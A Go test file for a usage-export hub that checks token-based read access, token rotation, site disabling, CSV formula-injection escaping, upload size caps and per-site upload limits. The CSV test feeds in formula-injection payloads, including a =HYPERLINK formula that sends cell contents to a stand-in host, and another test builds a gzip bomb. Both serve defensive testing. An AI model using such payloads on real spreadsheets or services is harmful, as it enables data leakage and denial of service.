package hub_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/klauspost/compress/gzip"

	"github.com/outpostdata/outpost/test/harness"
	"github.com/outpostdata/outpost/usageexport"
	"github.com/outpostdata/outpost/usageexport/hub"
)

// TestReadsNeedAReadOrAdminToken: every read (the page, the site list, a
// site's usage as JSON and CSV) is 401 without a token, with an unknown one
// and with a site's upload token; read and admin tokens read, as a bearer
// token or as the basic-auth password a browser sends.
func TestReadsNeedAReadOrAdminToken(t *testing.T) {
	pg := harness.StartPostgres(t)
	ctx := context.Background()
	s := newSite(t, pg, "site1", false)
	url, h, siteToken := hubWithSite(t, pg, s)
	s.run(t, 1, "2026-11-02T00:00:00Z")
	_, err := usageexport.Upload(ctx, s.export(t, "2026-11"), usageexport.UploadOptions{HubURL: url, Token: siteToken})
	must(t, err)
	reader, err := h.CreateToken(ctx, hub.RoleRead, "billing")
	must(t, err)
	admin, err := h.CreateToken(ctx, hub.RoleAdmin, "ops")
	must(t, err)
	if _, err := h.CreateToken(ctx, "owner", "x"); err == nil || !strings.Contains(err.Error(), "--role") {
		t.Errorf("a token with role owner: %v, want an error naming --role", err)
	}

	paths := []string{"/", "/api/v1/sites", "/api/v1/sites/plant/usage?month=2026-11", "/api/v1/sites/plant/usage?month=2026-11&format=csv"}
	for _, path := range paths {
		for name, token := range map[string]string{"no token": "", "an unknown token": "opt_unknown", "the site's upload token": siteToken} {
			if code, body := get(t, url+path, token); code != http.StatusUnauthorized || strings.Contains(body, "pg-0") {
				t.Errorf("GET %s with %s: %d %s, want 401 and no usage", path, name, code, body)
			}
		}
		for name, token := range map[string]string{"a read token": reader, "an admin token": admin} {
			if code, body := get(t, url+path, token); code != http.StatusOK || !strings.Contains(body, "plant") {
				t.Errorf("GET %s with %s: %d %s, want 200", path, name, code, body)
			}
		}
	}
	req, err := http.NewRequest(http.MethodGet, url+"/", nil)
	must(t, err)
	req.SetBasicAuth("anyone", reader)
	resp, err := http.DefaultClient.Do(req)
	must(t, err)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Errorf("the page with the read token as basic-auth password: %d", resp.StatusCode)
	}
	resp, err = http.Get(url + "/")
	must(t, err)
	resp.Body.Close()
	if !strings.HasPrefix(resp.Header.Get("WWW-Authenticate"), "Basic ") {
		t.Errorf("a browser without a token gets no basic-auth challenge: %q", resp.Header.Get("WWW-Authenticate"))
	}

	// A revoked read token stops at once; the admin token still reads.
	tokens, err := h.Tokens(ctx)
	must(t, err)
	if len(tokens) != 2 || tokens[0].Name != "billing" || tokens[0].Role != hub.RoleRead {
		t.Fatalf("tokens: %+v, want billing (read) and ops (admin)", tokens)
	}
	must(t, h.RevokeToken(ctx, tokens[0].ID))
	if code, _ := get(t, url+"/api/v1/sites", reader); code != http.StatusUnauthorized {
		t.Errorf("a revoked read token: %d, want 401", code)
	}
	if code, _ := get(t, url+"/api/v1/sites", admin); code != http.StatusOK {
		t.Errorf("the admin token after revoking another: %d, want 200", code)
	}
}

// TestRotatedTokenStopsTheOldOneAndDisabledSiteIsRefused: after a
// rotation the old token is refused at once and the new one works; a
// disabled site's uploads are 403 until it is enabled; after set-key, files
// signed by the old key are refused and the new key's are taken.
func TestRotatedTokenStopsTheOldOneAndDisabledSiteIsRefused(t *testing.T) {
	pg := harness.StartPostgres(t)
	ctx := context.Background()
	s := newSite(t, pg, "site1", false)
	url, h, oldToken := hubWithSite(t, pg, s)
	s.run(t, 1, "2026-11-02T00:00:00Z")
	first := s.export(t, "2026-11")
	s.clock.Set("2026-11-03T00:00:00Z")
	second := s.export(t, "2026-11")
	upload := func(file []byte, token string) error {
		_, err := usageexport.Upload(ctx, file, usageexport.UploadOptions{HubURL: url, Token: token, Attempts: 1})
		return err
	}
	status := func(err error) int {
		var refused *usageexport.HubError
		if errors.As(err, &refused) {
			return refused.Status
		}
		return 0
	}
	must(t, upload(first, oldToken))

	newToken, err := h.RotateToken(ctx, "plant")
	must(t, err)
	if err := upload(second, oldToken); status(err) != http.StatusUnauthorized {
		t.Fatalf("upload with the rotated-away token: %v, want 401", err)
	}
	must(t, upload(second, newToken))
	if _, err := h.RotateToken(ctx, "nowhere"); err == nil || !strings.Contains(err.Error(), "no such site") {
		t.Errorf("rotating an unknown site's token: %v", err)
	}

	must(t, h.Disable(ctx, "plant"))
	s.clock.Set("2026-11-04T00:00:00Z")
	third := s.export(t, "2026-11")
	if err := upload(third, newToken); status(err) != http.StatusForbidden || !strings.Contains(err.Error(), "disabled") {
		t.Fatalf("upload from a disabled site: %v, want 403 saying it is disabled", err)
	}
	if n, _ := hubTotal(t, h, "plant", "2026-11"); n != 2*24 {
		t.Fatalf("a disabled site's upload stored records: %d, want the %d from before", n, 2*24)
	}
	must(t, h.Enable(ctx, "plant"))
	must(t, upload(third, newToken))

	// The site is rebuilt with a new key: its files are refused until the
	// hub has the new key, and then files of the old key are refused.
	rebuilt := newSite(t, pg, "site1rebuilt", false)
	rebuilt.run(t, 1, "2026-11-05T00:00:00Z")
	fourth := rebuilt.export(t, "2026-11")
	if err := upload(fourth, newToken); status(err) != http.StatusBadRequest {
		t.Fatalf("a file signed by a key the hub does not have: %v, want 400", err)
	}
	must(t, h.SetKey(ctx, "plant", usageexport.FormatPublicKey(rebuilt.key.Public())))
	must(t, upload(fourth, newToken))
	if err := upload(first, newToken); status(err) != http.StatusBadRequest || !strings.Contains(err.Error(), "not by the expected key") {
		t.Fatalf("a file signed by the replaced key: %v, want 400", err)
	}
}

// TestCSVDefusesFormulasFromSites: instance names, kinds and namespaces
// come from the site. Cells starting with = + - @, a tab or a carriage
// return reach the CSV with a leading quote; others (the control) as they
// are.
func TestCSVDefusesFormulasFromSites(t *testing.T) {
	pg := harness.StartPostgres(t)
	ctx := context.Background()
	s := newSite(t, pg, "site1", false)
	url, h, token := hubWithSite(t, pg, s)
	reader, err := h.CreateToken(ctx, hub.RoleRead, "")
	must(t, err)
	evil := []usageexport.Instance{
		{UID: "00000000-0000-4000-8000-000000000001", Kind: "+PostgresInstance", Namespace: "@sum(1+1)", Name: `=HYPERLINK("http://evil.example/?"&A1,"x")`},
		{UID: "00000000-0000-4000-8000-000000000002", Kind: "PostgresInstance", Namespace: "\tns", Name: "-2+3"},
		{UID: "00000000-0000-4000-8000-000000000003", Kind: "PostgresInstance", Namespace: "default", Name: "\r=1+1"},
		{UID: "00000000-0000-4000-8000-000000000004", Kind: "PostgresInstance", Namespace: "default", Name: "orders"},
	}
	for _, inst := range evil {
		must(t, s.ledger.Observe(ctx, inst, usageexport.Shape{MilliVCores: 1000}))
	}
	s.clock.Set("2026-11-01T02:00:00Z")
	_, err = s.sampler.Sample(ctx)
	must(t, err)
	_, err = usageexport.Upload(ctx, s.export(t, "2026-11"), usageexport.UploadOptions{HubURL: url, Token: token})
	must(t, err)

	code, body := get(t, url+"/api/v1/sites/plant/usage?month=2026-11&format=csv", reader)
	if code != http.StatusOK {
		t.Fatalf("CSV: %d %s", code, body)
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	must(t, err)
	cells := map[string][]string{} // uid -> kind, namespace, name
	for _, r := range rows[1:] {
		cells[r[2]] = r[3:6]
	}
	want := map[string][]string{
		evil[0].UID: {"'+PostgresInstance", "'@sum(1+1)", `'=HYPERLINK("http://evil.example/?"&A1,"x")`},
		evil[1].UID: {"PostgresInstance", "'\tns", "'-2+3"},
		evil[2].UID: {"PostgresInstance", "default", "'\r=1+1"},
		evil[3].UID: {"PostgresInstance", "default", "orders"},
	}
	for uid, w := range want {
		if got := cells[uid]; strings.Join(got, "|") != strings.Join(w, "|") {
			t.Errorf("CSV cells of %s: %q, want %q", uid, got, w)
		}
	}
}

// TestUploadsOverTheCapAreRefusedWith413: a body over the cap, and a gzip
// bomb that is small but decompresses past it, are 413 and store nothing;
// the same file gzipped under the cap (the control) is taken.
func TestUploadsOverTheCapAreRefusedWith413(t *testing.T) {
	pg := harness.StartPostgres(t)
	s := newSite(t, pg, "site1", false)
	url, h, token := hubWithSite(t, pg, s)
	h.MaxBody = 1 << 20
	s.run(t, 1, "2026-11-02T00:00:00Z")
	file := s.export(t, "2026-11")

	var bomb bytes.Buffer
	zw, err := gzip.NewWriterLevel(&bomb, gzip.BestCompression)
	must(t, err)
	_, err = io.Copy(zw, io.LimitReader(zeros{}, 64<<20))
	must(t, err)
	must(t, zw.Close())
	for name, body := range map[string][]byte{"a 2 MiB body": bytes.Repeat([]byte("x"), 2<<20), "a gzip bomb": bomb.Bytes()} {
		if code, resp := post(t, url+usageexport.PathUploads, token, bytes.NewReader(body)); code != http.StatusRequestEntityTooLarge {
			t.Errorf("%s (%d bytes): %d %s, want 413", name, len(body), code, resp)
		}
	}
	gz, err := usageexport.Gzip(file)
	must(t, err)
	if code, resp := post(t, url+usageexport.PathUploads, token, bytes.NewReader(gz)); code != http.StatusOK {
		t.Fatalf("the gzipped file under the cap: %d %s", code, resp)
	}
	if n, _ := hubTotal(t, h, "plant", "2026-11"); n != 24 {
		t.Fatalf("hub has %d records, want the file's 24", n)
	}
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) { clear(p); return len(p), nil }

// TestOneSiteCannotHoldMoreThanItsShareOfUploads: with one upload per
// site, a second upload while the first is still sending its body is 429
// with Retry-After, and goes through once the first is done.
func TestOneSiteCannotHoldMoreThanItsShareOfUploads(t *testing.T) {
	pg := harness.StartPostgres(t)
	s := newSite(t, pg, "site1", false)
	url, h, token := hubWithSite(t, pg, s)
	h.PerSite = 1
	s.run(t, 1, "2026-11-02T00:00:00Z")
	first := s.export(t, "2026-11")
	s.clock.Set("2026-11-03T00:00:00Z")
	second := s.export(t, "2026-11")

	pr, pw := io.Pipe()
	firstDone := make(chan int)
	go func() {
		req, _ := http.NewRequest(http.MethodPost, url+usageexport.PathUploads, pr)
		req.Header.Set("Authorization", "Bearer "+token)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			firstDone <- 0
			return
		}
		resp.Body.Close()
		firstDone <- resp.StatusCode
	}()
	_, err := pw.Write(first[:100])
	must(t, err)
	// Until the hub holds the first upload's slot, a probe (not a file)
	// gets the slot and is refused as a bad file (400); once it does, 429.
	deadline := time.Now().Add(time.Minute)
	for {
		code, body := post(t, url+usageexport.PathUploads, token, strings.NewReader("not a file"))
		if code == http.StatusTooManyRequests {
			break
		}
		if code != http.StatusBadRequest || time.Now().After(deadline) {
			t.Fatalf("probe while the first upload is being sent: %d %s", code, body)
		}
		time.Sleep(50 * time.Millisecond)
	}

	code, body := post(t, url+usageexport.PathUploads, token, bytes.NewReader(second))
	if code != http.StatusTooManyRequests || !strings.Contains(body, "in progress") {
		t.Fatalf("a second upload while the first is in progress: %d %s, want 429", code, body)
	}
	_, err = pw.Write(first[100:])
	must(t, err)
	must(t, pw.Close())
	select {
	case code := <-firstDone:
		if code != http.StatusOK {
			t.Fatalf("the first upload: %d", code)
		}
	case <-time.After(time.Minute):
		t.Fatal("the first upload did not finish")
	}
	if code, body := post(t, url+usageexport.PathUploads, token, bytes.NewReader(second)); code != http.StatusOK {
		t.Fatalf("the second upload after the first: %d %s", code, body)
	}
}
